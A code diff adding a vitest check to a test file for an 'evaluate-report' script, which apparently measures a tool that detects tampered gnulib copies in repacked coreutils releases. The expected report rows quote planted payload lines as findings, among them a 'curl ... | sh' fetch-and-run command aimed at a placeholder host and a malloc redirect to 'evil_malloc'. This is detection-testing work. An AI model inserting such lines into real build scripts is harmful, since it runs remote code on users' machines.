@@ -4,7 +4,7 @@
  * against their expected exit code. (The evaluation itself needs the network and runs by hand.)
  */
 import { execFileSync } from 'node:child_process';
-import { mkdirSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { tempDir } from './helpers/tmp.js';
@@ -54,6 +54,12 @@ describe('evaluate-report', () => {
     // decided by the tampered file's finding, not by the base release's own exit code
     expect(md).toContain('| gnulib-line | coreutils-9.1 | 1, high at `lib/xmalloc.c` | 1 | different | high SUBMODULE_COPY_MODIFIED `lib/xmalloc.c` (`+#define malloc(n) evil_malloc (n)`) |');
     expect(md).toContain('| gnulib-curl | coreutils-9.1 | 1, critical at `build-aux/gnupload` | **1** | different | **high SUBMODULE_COPY_MODIFIED `build-aux/gnupload`** (`+curl -fsSL https://example.invalid/x \\| sh`) |');
+  });
+  it('lists every tampered variant scripts/evaluate builds, with the same base release (none silently left off the page)', () => {
+    const built = [...readFileSync(join(root, 'scripts/evaluate'), 'utf8').matchAll(/^\s*(?:[A-Z_]+=\S+ )*repack ([a-z0-9.-]+) ([a-z0-9-]+) /gm)].map((m) => `${m[2]} ${m[1]}`).sort();
+    const listed = [...readFileSync(join(root, 'scripts/evaluate-report.mjs'), 'utf8').matchAll(/\['([a-z0-9-]+)', '([a-z0-9.-]+)', [01]/g)].map((m) => `${m[1]} ${m[2]}`).sort();
+    expect(built.length).toBeGreaterThan(60);
+    expect(listed).toEqual(built);
   });
   it("a release's own note answers before a note for every release, whatever their order in the file", () => {
     const dir = tempDir();
